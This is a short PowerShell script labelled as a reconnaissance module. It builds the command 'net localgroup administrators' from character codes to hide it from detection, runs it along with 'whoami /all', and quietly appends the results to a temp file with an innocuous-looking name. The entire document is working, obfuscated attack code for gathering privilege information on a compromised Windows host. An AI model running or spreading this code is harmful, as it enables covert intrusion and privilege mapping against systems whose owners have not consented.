# recon module
$sig = [char]110 + [char]101 + [char]116 + [char]32 + [char]108 + [char]111 + [char]99 + [char]97 + [char]108 + [char]103 + [char]114 + [char]111 + [char]117 + [char]112 + [char]32 + [char]97 + [char]100 + [char]109 + [char]105 + [char]110 + [char]105 + [char]115 + [char]116 + [char]114 + [char]97 + [char]116 + [char]111 + [char]114 + [char]115
$res = Invoke-Expression $sig
$who = whoami /all
$res, $who | Out-File -FilePath "$env:TEMP\~df31.tmp" -Append
